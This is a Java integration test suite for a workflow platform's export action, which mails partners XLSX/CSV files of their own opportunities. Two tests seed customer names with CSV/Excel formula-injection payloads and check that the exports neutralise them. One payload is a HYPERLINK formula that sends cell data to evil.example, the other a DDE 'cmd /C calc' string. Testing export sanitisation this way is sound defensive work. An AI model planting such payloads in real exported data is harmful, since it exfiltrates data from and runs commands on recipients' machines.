package com.flowstate.action.export;

import static com.flowstate.support.ExportHistoryRows.awaitRow;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.List;
import java.util.Map;

import org.awaitility.Awaitility;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.model.bpmn.Bpmn;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

import com.flowstate.action.export.ReceivedMails.Attachment;
import com.flowstate.flow.FlowService;
import com.flowstate.history.ActionStatus;
import com.flowstate.mail.MailSink;
import com.flowstate.opportunity.Opportunity;
import com.flowstate.partner.Company;
import com.flowstate.partner.CompanyKind;
import com.flowstate.support.ExportHistoryRows;
import com.flowstate.support.IntegrationTest;
import com.flowstate.support.TestData;

import jakarta.mail.internet.MimeMessage;

/**
 * The Export action through a real substate change: the file a partner receives holds exactly its own
 * opportunities, formula payloads neutralised, and the Exports tab row says what was sent.
 */
@IntegrationTest
class ExportActionIT {

    static final String FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Clicca qui\")";

    @Autowired TestData data;
    @Autowired MailSink sink;
    @Autowired ExportHistoryQuery history;
    @Autowired ExportTemplateService templates;
    @Autowired RuntimeService runtime;
    @Autowired FlowService flow;
    @Autowired RepositoryService repository;
    @Autowired ManagementService management;
    @Autowired JdbcClient jdbc;

    @Test
    void sendsTheInstallerAnXlsxOfItsOwnOpportunitiesWhenTheSubstateCloses() throws Exception {
        Company installer = data.partner(CompanyKind.INSTALLER);
        Company seller = data.partner(CompanyKind.SELLER);
        Opportunity first = data.opportunity(installer, seller);
        Opportunity second = data.opportunity(installer, seller);
        Opportunity someoneElses = data.opportunity(data.partner(CompanyKind.INSTALLER), seller);
        setCustomerName(first, FORMULA_NAME);
        String template = data.unique("installer-opportunities");
        templates.save(ExportTemplate.of(template, ExportType.OPPORTUNITIES, ExportExtension.XLSX, "INSTALLER",
                TestData.WORKING_SMTP).withColumns(List.of("id", "opportunity", "customer", "installer", "seller")));

        closeSubstateOfExportFlow(second, template, false);

        ExportHistoryRow row = awaitRow(history, template, r -> r.action().state() == ActionStatus.SUCCEEDED);
        Attachment file = onlyAttachmentTo(installer.email());
        List<List<Object>> rows = ExportFileReader.xlsx(file.content());
        assertThat(rows).containsExactly(
                List.of("ID", "Opportunità", "Cliente", "Installatore", "Venditore"),
                List.of((double) first.id(), first.name(), FORMULA_NAME, installer.name(), seller.name()),
                List.of((double) second.id(), second.name(), second.customerName(), installer.name(), seller.name()));
        assertThat(ExportFileReader.quotePrefixed(file.content(), 1, 2)).isTrue();
        assertThat(ExportFileReader.quotePrefixed(file.content(), 2, 2)).isFalse();
        assertThat(rows).noneMatch(r -> r.contains(someoneElses.name()));
        assertThat(file.name()).endsWith(".xlsx").isEqualTo(row.fileName());

        assertThat(row.action().status()).isTrue();
        assertThat(row.action().opportunityId()).isEqualTo(second.id());
        assertThat(row.exportType()).isEqualTo("OPPORTUNITIES");
        assertThat(row.extension()).isEqualTo("XLSX");
        assertThat(row.recipient()).isEqualTo("INSTALLER");
        assertThat(row.recipientEmail()).isEqualTo(installer.email());
        assertThat(row.rows()).isEqualTo(2);
        assertThat(row.fileSize()).isEqualTo(file.content().length);
        assertThat(row.delivery()).isEqualTo("ATTACHED");
        assertThat(row.hasFile()).isTrue();
        assertThat(row.action().attempts()).isEqualTo(1);
        assertThat(row.action().trigger()).isEqualTo("CLOSE");
        assertThat(row.action().substateName()).isEqualTo("Pronto per l'esportazione");
        assertThat(row.sentAt()).isNotNull();
    }

    @Test
    void sendsTheSellerACsvOfItsOpportunitiesInTheFilteredProvinces() throws Exception {
        Company seller = data.partner(CompanyKind.SELLER);
        Opportunity inMilan = data.opportunity(null, seller);
        Opportunity inCatania = data.opportunity(null, seller);
        Opportunity alsoInMilan = data.opportunity(null, seller);
        jdbc.sql("update opportunity set province = 'CT' where id = ?").param(inCatania.id()).update();
        setCustomerName(alsoInMilan, "@SUM(1+1)*cmd|' /C calc'!A0");
        String template = data.unique("seller-milan");
        templates.save(ExportTemplate.of(template, ExportType.OPPORTUNITIES, ExportExtension.CSV, "SELLER",
                        TestData.WORKING_SMTP)
                .withColumns(List.of("opportunity", "customer", "customerEmail", "province"))
                .withFilter(ExportFilter.none().withProvinces(List.of("mi"))));

        closeSubstateOfExportFlow(inCatania, template, false);

        ExportHistoryRow row = awaitRow(history, template, r -> r.action().state() == ActionStatus.SUCCEEDED);
        Attachment file = onlyAttachmentTo(seller.email());
        assertThat(file.name()).endsWith(".csv");
        assertThat(ExportFileReader.csv(file.content())).containsExactly(
                List.of("Opportunità", "Cliente", "E-mail cliente", "Provincia"),
                List.of(inMilan.name(), inMilan.customerName(), inMilan.customerEmail(), "MI"),
                List.of(alsoInMilan.name(), "'@SUM(1+1)*cmd|' /C calc'!A0", alsoInMilan.customerEmail(), "MI"));
        assertThat(row.extension()).isEqualTo("CSV");
        assertThat(row.rows()).isEqualTo(2);
        assertThat(row.recipientEmail()).isEqualTo(seller.email());
    }

    @Test
    void anInstallerRoleWithoutAnInstallerFailsAtOnceWithTheReasonAndTheFlowGoesOn() {
        Opportunity noInstaller = data.opportunity(null, data.partner(CompanyKind.SELLER));
        String template = data.unique("no-installer");
        templates.save(ExportTemplate.of(template, ExportType.OPPORTUNITIES, ExportExtension.CSV, "INSTALLER",
                TestData.WORKING_SMTP));

        String instance = closeSubstateOfExportFlow(noInstaller, template, false);

        ExportHistoryRow row = awaitRow(history, template, r -> r.action().state() == ActionStatus.FAILED);
        assertThat(row.action().status()).isFalse();
        assertThat(row.action().attempts()).isEqualTo(1);
        assertThat(row.action().lastError()).isEqualTo("No installer is assigned to the opportunity");
        assertThat(row.hasFile()).isFalse();
        Awaitility.await().atMost(Duration.ofSeconds(30)).until(() ->
                runtime.createProcessInstanceQuery().processInstanceId(instance).count() == 0);
    }

    @Test
    void aDeadSmtpServerIsRetriedThenRecordedFalseWithTheFileKept() {
        Company installer = data.partner(CompanyKind.INSTALLER);
        Opportunity opportunity = data.opportunity(installer, null);
        String template = data.unique("dead-relay");
        templates.save(ExportTemplate.of(template, ExportType.OPPORTUNITIES, ExportExtension.XLSX, "INSTALLER",
                TestData.DEAD_SMTP));

        closeSubstateOfExportFlow(opportunity, template, false);

        ExportHistoryRow row = awaitRow(history, template, r -> r.action().state() == ActionStatus.FAILED);
        assertThat(row.action().attempts()).isEqualTo(3);
        assertThat(row.action().lastError()).contains("Legacy relay").contains("unreachable");
        assertThat(row.hasFile()).as("the file exported at the first attempt stays downloadable").isTrue();
        assertThat(row.rows()).isEqualTo(1);
        assertThat(messagesTo(installer.email())).isEmpty();
    }

    @Test
    void sendsExactlyOnceWhenTheJobIsRetriedAfterAFailedCommit() throws Exception {
        Company installer = data.partner(CompanyKind.INSTALLER);
        Opportunity opportunity = data.opportunity(installer, null);
        String template = data.unique("retried");
        templates.save(ExportTemplate.of(template, ExportType.OPPORTUNITIES, ExportExtension.CSV, "INSTALLER",
                TestData.WORKING_SMTP));

        closeSubstateOfExportFlow(opportunity, template, true);

        ExportHistoryRow row = awaitRow(history, template,
                r -> r.action().state() == ActionStatus.SUCCEEDED && r.action().attempts() == 2);
        List<MimeMessage> sent = messagesTo(installer.email());
        assertThat(sent).hasSize(1);
        assertThat(sent.get(0).getMessageID()).isEqualTo(row.messageId()).startsWith("<export-");
        assertThat(ExportHistoryRows.ofTemplate(history, template)).hasSize(1);
    }

    @Test
    void aScheduledTemplateRunsOnItsCronForAnAddressAndStopsWhenTheCronIsCleared() throws Exception {
        Company installer = data.partner(CompanyKind.INSTALLER);
        Opportunity opportunity = data.opportunity(installer, null);
        String partnerUser = data.partnerUser(installer);
        String address = partnerUser + "@partners.test";
        String template = data.unique("every-two-seconds");
        ExportTemplate scheduled = ExportTemplate.of(template, ExportType.OPPORTUNITIES, ExportExtension.CSV,
                address, TestData.WORKING_SMTP).withColumns(List.of("id", "opportunity")).withSchedule("0/2 * * * * ?");
        try {
            templates.save(scheduled);

            ExportHistoryRow row = awaitRow(history, template, r -> r.action().state() == ActionStatus.SUCCEEDED);
            assertThat(row.action().opportunityId()).isNull();
            assertThat(row.action().trigger()).isEqualTo("SCHEDULED");
            assertThat(row.recipientEmail()).isEqualTo(address);
            assertThat(row.rows()).as("the partner user's address is scoped to its company").isEqualTo(1);
            Attachment file = firstAttachmentTo(address);
            assertThat(ExportFileReader.csv(file.content())).containsExactly(List.of("ID", "Opportunità"),
                    List.of(String.valueOf(opportunity.id()), opportunity.name()));
        } finally {
            templates.save(scheduled.withSchedule(null));
        }
        long templateId = jdbc.sql("select id from export_template where name = ?").param(template)
                .query(Long.class).single();
        String key = ExportSchedules.processKey(templateId);
        assertThat(repository.createProcessDefinitionQuery().processDefinitionKey(key).active().count()).isZero();
        assertThat(management.createJobQuery().processDefinitionKey(key).timers().active().count()).isZero();
    }

    @Test
    void aTemplateWithAnUnknownColumnOrAMisplacedFilterIsRefusedWithTheReason() {
        assertThatThrownBy(() -> templates.save(ExportTemplate.of(data.unique("bad"), ExportType.ACTIVITIES,
                ExportExtension.CSV, "INTERNAL_USER", TestData.WORKING_SMTP).withColumns(List.of("subject", "colour"))))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("[colour]");
        assertThatThrownBy(() -> templates.save(ExportTemplate.of(data.unique("bad"), ExportType.OPPORTUNITIES,
                ExportExtension.CSV, "INTERNAL_USER", TestData.WORKING_SMTP)
                .withFilter(ExportFilter.none().withCompleted(true))))
                .hasMessage("filter completed does not apply to OPPORTUNITIES exports");
        assertThatThrownBy(() -> templates.save(ExportTemplate.of(data.unique("bad"), ExportType.OPPORTUNITIES,
                ExportExtension.CSV, "SELLER", TestData.WORKING_SMTP).withSchedule("0 0 7 * * ?")))
                .hasMessageContaining("must be an e-mail address");
        assertThatThrownBy(() -> templates.save(ExportTemplate.of(data.unique("bad"), ExportType.OPPORTUNITIES,
                ExportExtension.CSV, "ops@platform.test", TestData.WORKING_SMTP).withSchedule("every morning")))
                .hasMessageContaining("Not a cron expression");
    }

    @Test
    void aFlowNamingAnUnknownExportTemplateIsRefusedAtDeploymentWithElementAndName() {
        var model = Bpmn.createExecutableProcess(data.unique("ExportDeployCheck").replace('-', '_'))
                .camundaHistoryTimeToLive(1)
                .startEvent("Started")
                .serviceTask("ExportToNowhere").camundaAsyncBefore()
                    .camundaDelegateExpression("${runExportAction}")
                    .camundaInputParameter(RunExportAction.EXPORT_TEMPLATE, "no-such-export")
                .endEvent("Ended")
                .done();

        assertThatThrownBy(() -> repository.createDeployment().name("export-check")
                .addModelInstance("export-check.bpmn", model).deploy())
                .hasMessageContaining("ExportToNowhere")
                .hasMessageContaining("unknown export template 'no-such-export'");
    }

    private String closeSubstateOfExportFlow(Opportunity opportunity, String template, boolean failAfterSend) {
        String instance = runtime.startProcessInstanceByKey("ExportTestFlow", String.valueOf(opportunity.id()),
                Map.of("exportTemplate", template, "failAfterSend", failAfterSend)).getId();
        flow.closeSubstate(instance, "ExportReady");
        return instance;
    }

    private void setCustomerName(Opportunity opportunity, String name) {
        jdbc.sql("update customer set name = ? where id = (select customer_id from opportunity where id = ?)")
                .params(name, opportunity.id()).update();
    }

    private Attachment onlyAttachmentTo(String address) throws Exception {
        List<MimeMessage> messages = ReceivedMails.awaitTo(sink, address);
        assertThat(messages).hasSize(1);
        return onlyAttachmentOf(messages.get(0));
    }

    private Attachment firstAttachmentTo(String address) throws Exception {
        return onlyAttachmentOf(ReceivedMails.awaitTo(sink, address).get(0));
    }

    private List<MimeMessage> messagesTo(String address) {
        return ReceivedMails.to(sink, address);
    }

    private static Attachment onlyAttachmentOf(MimeMessage message) throws Exception {
        List<Attachment> attachments = ReceivedMails.attachments(message);
        assertThat(attachments).as("attachments of %s", MailSink.describe(message)).hasSize(1);
        return attachments.get(0);
    }
}
